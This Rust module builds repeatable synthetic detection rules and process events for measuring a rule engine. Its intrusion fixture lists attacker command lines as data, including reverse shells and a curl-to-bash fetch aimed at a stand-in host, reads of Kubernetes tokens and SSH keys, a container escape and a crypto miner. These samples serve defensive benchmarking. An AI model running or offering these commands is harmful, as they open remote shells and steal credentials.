//! Rules and events made up for measuring: shaped like those that people write and machines produce, and the same at
//! every run.
//!
//! A rule asks for the program, its parent, its arguments or its path in the ways that published process rules do.
//! Programs come from one list for rules and events alike, common ones often, so rules do meet events they are about
//! and then fail on the rest of their conditions.

use serde_json::{Map, Value, json};

/// Programs that every machine runs all day; rules name them too, the first ones most.
const COMMON: [&str; 24] = [
    "bash", "sh", "dash", "python3", "curl", "cat", "grep", "sed", "ls", "awk", "find", "tar", "chmod", "sleep",
    "date", "nginx", "java", "node", "postgres", "runc", "ps", "id", "mkdir", "head",
];
/// Programs that rules are about and that rarely run.
const TELLING: [&str; 20] = [
    "nc", "ncat", "socat", "nmap", "wget", "base64", "openssl", "nsenter", "unshare", "chroot", "mount", "kubectl",
    "docker", "ssh", "scp", "gdb", "insmod", "crontab", "useradd", "setfacl",
];
const PARENTS: [&str; 10] = [
    "bash",
    "sh",
    "systemd",
    "containerd-shim",
    "sshd",
    "cron",
    "nginx",
    "java",
    "node",
    "python3",
];
const FOLDERS: [&str; 8] = [
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/run/",
    "/usr/bin/",
    "/usr/sbin/",
    "/opt/",
    "/home/",
];
const WORDS: [&str; 16] = [
    "install",
    "--socks5",
    "/etc/shadow",
    "/etc/passwd",
    "id_rsa",
    "authorized_keys",
    "kubeconfig",
    "release_agent",
    "--privileged",
    "LD_PRELOAD",
    "/proc/1/root",
    "history",
    "docker.sock",
    "service-account",
    "xmrig",
    "memfd",
];

/// What intruders run, with the program that starts it.
pub(crate) const INTRUSIONS: [(&str, &[&str]); 16] = [
    ("nginx", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"]),
    ("bash", &["nc", "198.51.100.7", "443", "-e", "/bin/sh"]),
    ("sh", &["socat", "TCP:198.51.100.7:443", "EXEC:'bash -li',pty,stderr"]),
    ("java", &["sh", "-c", "curl -s http://198.51.100.7/x.sh | bash"]),
    ("sh", &["curl", "-s", "-o", "/tmp/x", "http://198.51.100.7/x"]),
    ("bash", &["chmod", "777", "/tmp/x"]),
    ("bash", &["base64", "-d", "/tmp/payload.b64"]),
    ("node", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
    ("bash", &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "bash"]),
    ("bash", &["kubectl", "get", "secrets", "--all-namespaces"]),
    ("sh", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
    ("bash", &["find", "/", "-name", "id_rsa"]),
    ("bash", &["nmap", "-sS", "10.0.0.0/24"]),
    ("bash", &["docker", "-H", "unix:///var/run/docker.sock", "ps"]),
    ("bash", &["xmrig", "--url", "stratum+tcp://pool:3333"]),
    ("bash", &["unshare", "-U", "-r", "-m", "sh"]),
];

/// Numbers that look random and are the same at every run.
pub(crate) struct Numbers(u64);

impl Numbers {
    pub(crate) fn from(seed: u64) -> Numbers {
        Numbers(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 33) as usize % limit
    }

    fn one_of<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.below(list.len())]
    }

    /// One of the list, the first ones far more often.
    fn skewed<'a>(&mut self, list: &[&'a str]) -> &'a str {
        let limit = self.below(list.len()) + 1;
        list[self.below(limit)]
    }
}

/// A rule file. Rules of different numbers ask for different things; however often one matches, it alerts.
pub(crate) fn rule(number: usize) -> String {
    let mut numbers = Numbers::from(number as u64 + 1);
    let own = format!("tool{number}");
    let word = numbers.one_of(&WORDS);
    let list = |numbers: &mut Numbers, from: &[&str], count: usize| {
        let names: Vec<String> = (0..count).map(|_| format!("\"{}\"", numbers.skewed(from))).collect();
        names.join(", ")
    };
    let exec = "event.type == \"start\" and event.action in (\"exec\", \"exec_event\", \"start\")";
    let (rule_type, query, tail) = match numbers.below(20) {
        0..=5 => {
            let names = list(&mut numbers, &TELLING, 3);
            let condition = format!(
                "process where host.os.type == \"linux\" and {exec} and process.name in (\"{own}\", {names}) and \
                 process.args : (\"--{own}*\", \"*{word}/{number}*\")"
            );
            ("eql", condition, String::new())
        }
        6..=9 => {
            let (names, parents) = (list(&mut numbers, &COMMON, 4), list(&mut numbers, &PARENTS, 3));
            let condition = format!(
                "process where host.os.type == \"linux\" and {exec} and process.name : ({names}) and \
                 process.parent.name : ({parents}, \"{own}*\") and process.command_line : \
                 (\"*{word}*{own}*\", \"*{own} --{word}*\") and not process.parent.executable like \"/usr/lib/{own}/*\""
            );
            ("eql", condition, String::new())
        }
        10..=12 => {
            let folder = numbers.one_of(&FOLDERS);
            let condition = format!(
                "process where {exec} and process.executable like (\"{folder}{own}/*\", \"{folder}*/{own}\") and \
                 process.parent.name : ({}) and not process.args in (\"-h\", \"--help\", \"{number}\")",
                list(&mut numbers, &PARENTS, 4)
            );
            ("eql", condition, String::new())
        }
        13..=14 => {
            let condition = format!(
                "process where {exec} and container.id : \"?*\" and process.interactive == true and \
                 process.name : ({}) and process.args_count > {} and process.args in (\"{word}\", \"{own}\")",
                list(&mut numbers, &COMMON, 3),
                number % 7
            );
            ("eql", condition, String::new())
        }
        15 => {
            let condition = format!(
                "process where {exec} and process.command_line regex~ \".*({word}|{own})[0-9]+/.*\" and \
                 process.name in (\"{own}\", {})",
                list(&mut numbers, &TELLING, 2)
            );
            ("eql", condition, String::new())
        }
        16..=17 => {
            let query = format!(
                "event.category:process and event.type:start and process.parent.name:({own} or {}) and \
                 process.args:(\"{word}\" or {own}*)",
                numbers.one_of(&TELLING)
            );
            let tail = "[rule.new_terms]\nfield = \"new_terms_fields\"\nvalue = [\"process.executable\"]\n\
                        [[rule.new_terms.history_window_start]]\nfield = \"history_window_start\"\nvalue = \"now-14d\"\n";
            ("new_terms", query, tail.to_owned())
        }
        18 => {
            let query = format!(
                "event.category:process and event.action:exec and process.name:({own} or {}) and \
                 process.args:*{number}*",
                numbers.one_of(&TELLING)
            );
            let tail = "[rule.threshold]\nfield = [\"host.id\", \"process.parent.entity_id\"]\nvalue = 5\n";
            ("threshold", query, tail.to_owned())
        }
        _ => {
            let (first, second) = (numbers.one_of(&TELLING), numbers.one_of(&TELLING));
            let query = format!(
                "sequence by process.parent.entity_id with maxspan=10s\n\
                 [process where {exec} and process.name == \"{first}\" and process.args : \"*{word}{number}*\"]\n\
                 [process where {exec} and process.name in (\"{second}\", \"{own}\")]"
            );
            ("eql", query, String::new())
        }
    };
    format!(
        "[rule]\nrule_id = \"{own}\"\nname = \"{own}\"\ndescription = \"measured\"\nseverity = \"low\"\nrisk_score = 1\n\
         type = \"{rule_type}\"\n\
         index = [\"logs-endpoint.events.process*\"]\nquery = '''\n{query}\n'''\n{tail}"
    )
}

/// An event as the sensor records it: a fork, an exec or an end, one after the other.
pub(crate) fn event(number: usize) -> Map<String, Value> {
    let mut numbers = Numbers::from((number / 3) as u64 + 77);
    // Of fifty programs one is what some rule is about, and one what several rules name.
    let own = format!("tool{}", numbers.below(100));
    let name = match numbers.below(50) {
        0 => own.as_str(),
        1 => numbers.one_of(&TELLING),
        _ => numbers.skewed(&COMMON),
    };
    let parent = numbers.skewed(&PARENTS);
    let mut args = vec![name.to_owned()];
    if name == own {
        args.push(format!("--{own}=1"));
    }
    for _ in 0..numbers.below(5) {
        args.push(match numbers.below(6) {
            0 => format!(
                "--{}={}",
                numbers.one_of(&["config", "log-level", "output"]),
                numbers.below(1_000)
            ),
            1 => format!("/var/lib/app/{}/data-{}.json", numbers.below(50), numbers.below(1_000)),
            2 => "-c".to_owned(),
            3 => format!(
                "echo $(({} + 1)) && exec worker --queue {}",
                numbers.below(100),
                numbers.below(8)
            ),
            4 => "/etc/passwd".to_owned(),
            _ => format!("item-{}", numbers.below(10_000)),
        });
    }
    document(number, parent, name, &args)
}

/// The same of an intruder's program.
pub(crate) fn intrusion(number: usize) -> Map<String, Value> {
    let (parent, args) = INTRUSIONS[number / 3 % INTRUSIONS.len()];
    let args: Vec<String> = args.iter().map(|argument| (*argument).to_owned()).collect();
    document(number, parent, &args[0], &args)
}

fn document(number: usize, parent: &str, name: &str, args: &[String]) -> Map<String, Value> {
    let (action, kind) = [("fork", "start"), ("exec", "start"), ("end", "end")][number % 3];
    let pid = 1_000 + number / 3 % 30_000;
    let container = (!(number / 3).is_multiple_of(4)).then(|| format!("{:064x}", number / 3 % 40));
    let person = |name: &str, pid: usize| {
        json!({
            "name": name, "executable": format!("/usr/bin/{name}"), "pid": pid, "entity_id": format!("node-1/{pid}/88"),
            "args": [name], "args_count": 1, "command_line": name, "interactive": false,
            "user": {"id": "0", "name": "root"}, "group": {"id": "0", "name": "root"},
        })
    };
    let mut process = person(name, pid);
    process["args_count"] = args.len().into();
    process["command_line"] = args.join(" ").into();
    process["args"] = args.into();
    process["working_directory"] = "/srv/app".into();
    process["start"] = "2026-11-20T10:00:00.123456789Z".into();
    process["parent"] = person(parent, pid / 2);
    process["entry_leader"] = person("sh", 500);
    process["session_leader"] = person("sh", 500);
    process["group_leader"] = person(name, pid);
    let mut event = json!({
        "@timestamp": 1_760_000_000_000_i64 + number as i64,
        "event": {"action": action, "type": [kind], "category": ["process"], "kind": "event",
                  "id": format!("node-1/{number}"), "module": "tidewaiter", "dataset": "tidewaiter.process"},
        "host": {"id": "b7c1", "hostname": "node-1", "os": {"type": "linux"}},
        "process": process,
        "user": {"id": "0", "name": "root"},
        "group": {"id": "0", "name": "root"},
    });
    if let Some(id) = container {
        event["container"] = json!({
            "id": id, "name": "shop-web", "runtime": "docker",
            "image": {"name": "shop/web", "tag": ["2.4"]}, "labels": {"app": "shop", "tier": "web"},
        });
    }
    match event {
        Value::Object(event) => event,
        _ => Map::new(),
    }
}
